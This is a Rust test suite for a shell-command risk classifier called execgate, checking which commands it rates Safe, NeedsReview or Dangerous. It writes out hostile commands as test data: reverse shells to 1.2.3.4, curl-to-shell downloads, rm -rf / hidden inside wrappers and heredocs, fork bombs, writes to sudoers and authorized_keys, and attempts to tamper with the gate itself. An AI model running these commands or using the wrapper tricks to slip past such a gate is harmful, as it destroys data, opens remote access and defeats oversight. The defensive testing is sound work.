use super::*;
use crate::policy::parse;

fn risk_of(command: &str) -> Risk {
    assess(&parse::analyse(command), &OwnFiles::default()).0
}

fn words(command: &str) -> Vec<String> {
    parse::analyse(command).commands[0].words.clone()
}

macro_rules! risk {
    ($name:ident, $cmd:expr, $risk:ident) => {
        #[test]
        fn $name() {
            assert_eq!(
                risk_of($cmd),
                Risk::$risk,
                "{}: {:?}",
                $cmd,
                assess(&parse::analyse($cmd), &OwnFiles::default()).1
            );
        }
    };
}

// Safe: read-only, flags only, with flag values recognised.
risk!(ls_is_safe, "ls -la", Safe);
risk!(git_status_is_safe, "git status --short", Safe);
risk!(head_n, "head -n 5", Safe);
risk!(head_number, "head -5", Safe);
risk!(git_log_n, "git log -n 3 --oneline", Safe);
risk!(git_log_revision, "git log --oneline main..HEAD", Safe);
risk!(git_show_head, "git show HEAD~1 --stat", Safe);
risk!(sort_key, "sort -k 2 -n", Safe);
risk!(status_piped_to_head, "git status | head -5", Safe);
risk!(cut_delimiter, "cut -d , -f 1", Safe);
risk!(tail_n, "tail -n 20", Safe);
risk!(grep_e, "grep -e x", Safe);
risk!(grep_pattern, "grep -i todo", Safe);
risk!(echo_text, "echo hello /etc/passwd", Safe);
risk!(date_format, "date +%Y-%m-%d", Safe);
risk!(git_branch_list, "git branch -vv", Safe);
risk!(git_remote_v, "git remote -v", NeedsReview);
risk!(git_remote, "git remote", Safe);
risk!(git_config_get, "git config --get user.name", Safe);
// `find` walks the working directory: never safe (issue 12); `jq`'s filter is read.
risk!(find_name, "find -name '*.rs' -type f", NeedsReview);
risk!(jq_filter, "jq -r .name", Safe);
risk!(jq_filter_plain, "jq -r 'keys'", Safe);
risk!(chained_safe, "pwd && whoami; uname -a", Safe);
risk!(which_name, "which cargo", Safe);
risk!(git_stash_list, "git stash list", Safe);
risk!(wc_l, "wc -l", Safe);

// Their not-safe twins.
risk!(sort_output, "sort -o out", NeedsReview);
risk!(sort_output_abbrev, "sort --outp=out", NeedsReview);
risk!(find_delete_not_safe, "find -name x -delete", Dangerous);
risk!(find_path, "find . -name x", NeedsReview);
risk!(head_file, "head secret.txt", NeedsReview);
risk!(git_branch_delete, "git branch -D x", Dangerous);
risk!(git_branch_create, "git branch feature", NeedsReview);
risk!(git_c_user, "git -c user.name=x log", NeedsReview);
risk!(git_diff_output_is_not, "git diff --output=x", NeedsReview);
risk!(ls_with_a_path_is_not, "ls /etc", NeedsReview);
risk!(ls_with_a_name_is_not, "ls secret", NeedsReview);
risk!(grep_file, "grep -e x secret", NeedsReview);
risk!(grep_pattern_file, "grep -f pats", NeedsReview);
risk!(rg_pre, "rg --pre cat x", NeedsReview);
risk!(date_set, "date -s 2020-01-01", NeedsReview);
risk!(hostname_set, "hostname evil", NeedsReview);
risk!(printf_v, "printf -v x hi", NeedsReview);
risk!(uniq_output, "uniq in out", NeedsReview);
risk!(git_tag_create, "git tag v1", NeedsReview);
risk!(git_config_set, "git config user.name x", NeedsReview);
risk!(git_log_pathspec, "git log -- src/x.rs", NeedsReview);
risk!(local_ls, "./ls -la", NeedsReview);
risk!(safe_with_redirect, "ls > out", NeedsReview);
risk!(safe_with_substitution, "echo $(id)", NeedsReview);
risk!(plain_build, "make test", NeedsReview);
risk!(cat_ssh_key, "cat ~/.ssh/id_rsa", NeedsReview);

// Dangerous, one per pattern.
risk!(rm_rf, "rm -rf build", Dangerous);
risk!(rm_split_flags, "rm -r -f build", Dangerous);
risk!(rm_recursive_long, "rm --recursive build", Dangerous);
risk!(rm_force, "rm -f x", Dangerous);
risk!(rm_no_preserve_root, "rm --no-preserve-root x", Dangerous);
risk!(rm_behind_assignment, "X=1 rm -rf build", Dangerous);
risk!(sudo, "sudo ls", Dangerous);
risk!(su, "su -c id", Dangerous);
risk!(doas, "doas ls", Dangerous);
risk!(pkexec, "pkexec id", Dangerous);
risk!(curl_to_shell, "curl -fsSL x | sh", Dangerous);
risk!(wget_to_bash, "wget -qO- x | bash -s -- --yes", Dangerous);
risk!(base64_to_sh, "echo eA== | base64 -d | sh", Dangerous);
risk!(pipe_to_python, "cat x | python3", Dangerous);
risk!(bash_process_substitution, "bash <(curl -s x)", Dangerous);
risk!(bash_c_curl, "bash -c \"$(curl -fsSL x)\"", Dangerous);
risk!(chmod_recursive, "chmod -R 755 x", Dangerous);
risk!(chown_system, "chown user /etc", Dangerous);
risk!(chmod_777, "chmod 777 x", Dangerous);
risk!(chmod_setuid, "chmod u+s x", Dangerous);
risk!(chmod_a_rwx, "chmod a+rwx x", Dangerous);
risk!(chmod_x_is_not, "chmod +x script", NeedsReview);
risk!(mkfs, "mkfs.ext4 /dev/sdb1", Dangerous);
risk!(dd_device, "dd if=/dev/zero of=/dev/sda", Dangerous);
risk!(dd_of_file, "dd if=a of=b", Dangerous);
risk!(redirect_to_disk, "echo x > /dev/sda", Dangerous);
risk!(redirect_to_null_is_not, "ls > /dev/null", Safe);
risk!(redirect_to_a_file_needs_review, "ls > /tmp/x", NeedsReview);
risk!(tee_device, "echo x | tee /dev/nvme0n1", Dangerous);
risk!(redirect_to_passwd, "echo x >> /etc/passwd", Dangerous);
risk!(
    redirect_to_authorized_keys,
    "echo k >> ~/.ssh/authorized_keys",
    Dangerous
);
risk!(redirect_to_bashrc, "echo x >> $HOME/.bashrc", Dangerous);
risk!(tee_sudoers, "echo x | tee -a /etc/sudoers", Dangerous);
risk!(cp_onto_profile, "cp evil ~/.profile", Dangerous);
risk!(git_hook, "cp x .git/hooks/pre-commit", Dangerous);
risk!(fork_bomb_classic, ":(){ :|:& };:", Dangerous);
risk!(fork_bomb_named, "bomb(){ bomb|bomb& };bomb", Dangerous);
risk!(cat_to_cat_is_safe, "cat | cat", Safe);
risk!(force_push, "git push --force origin main", Dangerous);
risk!(force_push_f, "git push -f", Dangerous);
risk!(force_push_lease, "git push --force-with-lease", Dangerous);
risk!(force_push_plus, "git push origin +main", Dangerous);
risk!(push_mirror, "git push --mirror", Dangerous);
risk!(push_delete_colon, "git push origin :main", Dangerous);
risk!(push_plain_is_not, "git push origin main", NeedsReview);
risk!(reset_hard, "git reset --hard HEAD", Dangerous);
risk!(git_clean, "git clean -fdx", Dangerous);
risk!(git_checkout_dot, "git checkout -- .", Dangerous);
risk!(git_restore_dot, "git restore .", Dangerous);
risk!(
    git_filter_branch,
    "git filter-branch --tree-filter x HEAD",
    Dangerous
);
risk!(kill_all, "kill -9 -1", Dangerous);
risk!(kill_minus_one, "kill -1", Dangerous);
risk!(kill_named_all, "kill -KILL -1", Dangerous);
risk!(kill_hup_pid_is_not, "kill -1 1234", NeedsReview);
risk!(pkill, "pkill node", Dangerous);
risk!(killall, "killall python", Dangerous);
risk!(shutdown, "shutdown -h now", Dangerous);
risk!(reboot, "reboot", Dangerous);
risk!(init_zero, "init 0", Dangerous);
risk!(systemctl_reboot, "systemctl reboot", Dangerous);
risk!(systemctl_stop, "systemctl stop nginx", Dangerous);
risk!(
    systemctl_status_is_not,
    "systemctl status nginx",
    NeedsReview
);
risk!(crontab_r, "crontab -r", Dangerous);
risk!(shred, "shred -u x", Dangerous);
risk!(wipefs, "wipefs -a /dev/sdb", Dangerous);
risk!(fdisk, "fdisk /dev/sda", Dangerous);
risk!(iptables, "iptables -F", Dangerous);
risk!(ufw, "ufw disable", Dangerous);
risk!(find_delete, "find . -name '*.o' -delete", Dangerous);
risk!(find_exec_rm, "find . -exec rm {} +", Dangerous);
risk!(truncate, "truncate -s 0 x", Dangerous);
risk!(mount, "mount /dev/sdb1 /mnt", Dangerous);
risk!(umount, "umount /mnt", Dangerous);
risk!(modprobe, "modprobe x", Dangerous);
risk!(useradd, "useradd eve", Dangerous);
risk!(passwd, "passwd", Dangerous);
risk!(
    dev_tcp_redirect,
    "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
    Dangerous
);
risk!(dev_tcp_word, "cat /dev/tcp/1.2.3.4/80", Dangerous);
risk!(nc_e, "nc -e /bin/sh 1.2.3.4 80", Dangerous);
risk!(ncat_exec, "ncat --exec sh 1.2.3.4 80", Dangerous);
risk!(nc_plain_is_not, "nc -z localhost 80", NeedsReview);
risk!(history_c, "history -c", Dangerous);
risk!(chattr, "chattr +i x", Dangerous);
risk!(setenforce, "setenforce 0", Dangerous);
risk!(
    docker_privileged,
    "docker run --privileged alpine",
    Dangerous
);
risk!(docker_host_root, "docker run -v /:/host alpine", Dangerous);
risk!(
    docker_plain_is_not,
    "docker run -v ./x:/x alpine",
    NeedsReview
);
risk!(eval, "eval ls", Dangerous);
risk!(git_c_pager, "git -c core.pager=sh log", Dangerous);
risk!(
    git_c_ssh,
    "git -c core.sshCommand='sh -c id' fetch",
    Dangerous
);
risk!(git_c_alias, "git -c alias.x='!id' x", Dangerous);
risk!(sysctl_w, "sysctl -w net.ipv4.ip_forward=1", Dangerous);
risk!(runs_execgate, "execgate approve 1", Dangerous);
risk!(
    runs_execgate_by_path,
    "/usr/local/bin/execgate allow add x",
    Dangerous
);
risk!(pkill_execgate, "pkill execgate", Dangerous);
risk!(
    systemctl_execgate,
    "systemctl restart execgate.service",
    Dangerous
);
risk!(own_db_name, "sqlite3 execgate.db .dump", Dangerous);
risk!(
    own_socket,
    "nc -U /run/user/1000/execgate/admin.sock",
    Dangerous
);
risk!(own_config_dir, "cat ~/.config/execgate/x", Dangerous);
risk!(
    own_redirect,
    "echo x > ~/.local/state/execgate/x",
    Dangerous
);

// Wrapper chains.
risk!(
    rm_behind_four_wrappers,
    "env X=1 nice -n 5 timeout 10 rm -rf x",
    Dangerous
);
risk!(rm_behind_sudo_user, "sudo -u root rm -r build", Dangerous);
risk!(rm_inside_sh_c, "sh -c 'echo; rm -rf /'", Dangerous);
risk!(
    rm_through_dollar_zero,
    r#"bash -c '$0 "$@"' rm -rf /"#,
    Dangerous
);
risk!(
    rm_through_dollar_at,
    r#"sh -c '"$@"' x rm -rf /"#,
    Dangerous
);
risk!(push_inside_bash_lc, "bash -lc \"git push -f\"", Dangerous);
risk!(rm_behind_xargs, "xargs rm -rf", Dangerous);
risk!(rm_in_heredoc, "sh <<EOF\nrm -rf /\nEOF", Dangerous);
risk!(rm_in_herestring, "bash <<< 'rm -rf /'", Dangerous);
risk!(cat_heredoc_is_not, "cat <<EOF\nrm -rf /\nEOF", NeedsReview);
risk!(rm_in_env_split, "env -S 'rm -rf x'", Dangerous);
risk!(rm_in_ssh, "ssh host rm -rf /srv", Dangerous);
risk!(rm_in_watch, "watch -n 1 rm -rf x", Dangerous);
risk!(rm_in_find_exec, "find . -exec rm -rf {} ;", Dangerous);
risk!(
    rm_in_git_pager,
    "git -c core.pager='rm -rf x' log",
    Dangerous
);
risk!(rm_in_substitution, "echo $(rm -rf x)", Dangerous);
risk!(curl_to_sudo_bash, "curl x | sudo bash", Dangerous);
risk!(curl_to_env_sh, "curl x | env sh", Dangerous);
risk!(
    redirect_inside_sh_c,
    "sh -c 'echo x > /etc/hosts'",
    Dangerous
);
risk!(busybox_rm, "busybox rm -rf x", Dangerous);
// Runners that start what their words name (`runners`, from GTFOBins) are looked through.
risk!(rm_in_screen, "screen -dmS s rm -rf x", Dangerous);
risk!(rm_in_tmux_line, "tmux new-window 'rm -rf x'", Dangerous);
risk!(rm_in_setarch, "setarch x86_64 rm -rf x", Dangerous);
risk!(
    rm_in_sshpass_ssh,
    "sshpass -p x ssh host rm -rf /srv",
    Dangerous
);
risk!(tmux_ls_is_not, "tmux ls", NeedsReview);
risk!(
    timeout_abbrev_unsure,
    "timeout --sig KILL 5 rm -rf x",
    Dangerous
);
risk!(
    timeout_grep_word_is_not,
    "timeout 10 git log --grep reboot",
    NeedsReview
);
risk!(
    xargs_sh_c_is_not_piped_code,
    "ls | xargs -n1 sh -c 'echo'",
    NeedsReview
);

#[test]
fn own_files_from_configuration() {
    let own = OwnFiles::new(&[PathBuf::from("/srv/gate/state.sqlite")]);
    let (risk, reasons) = assess(&parse::analyse("cp /srv/gate/state.sqlite /tmp"), &own);
    assert_eq!(risk, Risk::Dangerous);
    assert!(reasons[0].contains("execgate"), "{reasons:?}");
    // A generic name alone is not enough.
    assert_eq!(
        assess(&parse::analyse("cat state.sqlite"), &own).0,
        Risk::NeedsReview
    );
}

#[test]
fn reasons_are_deduplicated_in_order() {
    let (risk, reasons) = assess(
        &parse::analyse("rm -rf a; rm -rf b; git push -f"),
        &OwnFiles::default(),
    );
    assert_eq!(risk, Risk::Dangerous);
    assert_eq!(
        reasons,
        [
            "recursive delete (`rm -r`)",
            "forced delete (`rm -f`)",
            "`git push --force` overwrites remote history (force-push)"
        ]
    );
    let (_, reasons) = assess(&parse::analyse("frobnicate"), &OwnFiles::default());
    assert_eq!(reasons, ["`frobnicate` is not a program execgate knows"]);
    let (_, reasons) = assess(&parse::analyse("cat notes.txt"), &OwnFiles::default());
    assert_eq!(reasons, ["`cat` reads `notes.txt`"]);
    let (_, reasons) = assess(&parse::analyse("make > log"), &OwnFiles::default());
    assert_eq!(reasons, ["not a plain command: a human must look at it"]);
}

#[test]
fn runs_other_code_cases() {
    for yes in [
        "find . -exec ls {} +",
        "git -c core.pager=x log",
        "awk 'BEGIN{system(\"x\")}'",
        "python3 -c x",
        "python3.12 -c x",
        "node -e x",
        "perl -ne 'print'",
        "ruby -e x",
        "php -r x",
        "deno eval x",
        "sh x.sh",
        "bash",
        "env ls",
        "xargs ls",
        "sudo ls",
        "tar --to-command=sh -xf a.tar",
        "tar -I zstd -cf a.tar x",
        "rsync -e 'ssh -p 22' a b:",
        "ssh host ls",
        "vim -c '!ls'",
        "sed 's/x/y/e'",
        "sed -e 1e",
        "git rebase -x 'make test' main",
        "nc -e /bin/sh h 1",
        "watch ls",
    ] {
        assert!(runs_other_code(&words(yes)), "{yes}");
    }
    for no in [
        "ls -la",
        "python3 script.py",
        "git log",
        "find . -name x",
        "jq .x",
        "sed -n 1p",
        "sed 's/e/f/g'",
        "awk '{print}'",
        "make test",
        "cargo test",
        "npm run build",
        "tar -xf a.tar",
    ] {
        assert!(!runs_other_code(&words(no)), "{no}");
    }
    assert!(is_wrapper_or_interpreter("/usr/bin/python3"));
    assert!(is_wrapper_or_interpreter("sudo"));
    assert!(!is_wrapper_or_interpreter("ls"));
}

#[test]
fn looks_through_wrappers_and_scripts() {
    let inner: Vec<String> = looked_through(&words("sudo bash -c 'cd /tmp && make'"))
        .into_iter()
        .map(|w| w.join(" "))
        .collect();
    assert!(inner.contains(&"cd /tmp".to_string()), "{inner:?}");
    assert!(inner.contains(&"make".to_string()), "{inner:?}");
    assert_eq!(looked_through(&words("git status")).len(), 1);
    let inner = looked_through(&words("timeout -s KILL 10 nice -n 5 make"));
    assert_eq!(
        inner,
        [
            words("timeout -s KILL 10 nice -n 5 make"),
            words("nice -n 5 make"),
            words("make")
        ]
    );
    let inner = looked_through(&words("env -i A=1 -u B sh -ec 'git push -f'"));
    assert!(inner.contains(&words("git push -f")), "{inner:?}");
}

#[test]
fn looking_through_is_depth_limited() {
    // Ten wrappers deep: looked through up to MAX_DEPTH, no further.
    let command = format!("{}rm -rf x", "nice ".repeat(10));
    let found = looked_through(&words(&command));
    assert_eq!(found.len(), MAX_DEPTH + 1);
    // `sh -c` nested ten deep with quotes alternating (not valid shell past two
    // levels, but a stress input), then seven deep quoted as a shell would (ten would
    // pass the analyser's 64 KiB limit): terminates, bounded.
    let mut script = "rm -rf x".to_string();
    for i in 0..10 {
        script = if i % 2 == 0 {
            format!("sh -c '{script}'")
        } else {
            format!("sh -c \"{script}\"")
        };
    }
    assert!(looked_through(&words(&script)).len() <= MAX_FOUND);
    let mut script = "rm -rf x".to_string();
    for _ in 0..7 {
        script = format!("sh -c '{}'", script.replace('\'', r"'\''"));
    }
    let found = looked_through(&words(&script));
    assert!(found.len() <= MAX_FOUND, "{}", found.len());
    assert!(found.len() > 2, "{found:?}");
    // One level of escaped quotes, and a backslashed program, read as bash would.
    let found = looked_through(&words(r"sh -c 'sh -c '\''rm -rf x'\'''"));
    assert!(found.contains(&words("rm -rf x")), "{found:?}");
    assert_eq!(risk_of(r"\rm -rf x"), Risk::Dangerous);
    // Two levels deep is found.
    let found = looked_through(&words("sh -c \"bash -c 'rm -rf x'\""));
    assert!(found.contains(&words("rm -rf x")), "{found:?}");
    // A wide, deep pile of unknown wrappers stays bounded.
    let command = "strace ".repeat(40) + "ls";
    assert!(looked_through(&words(&command)).len() <= MAX_FOUND);
}
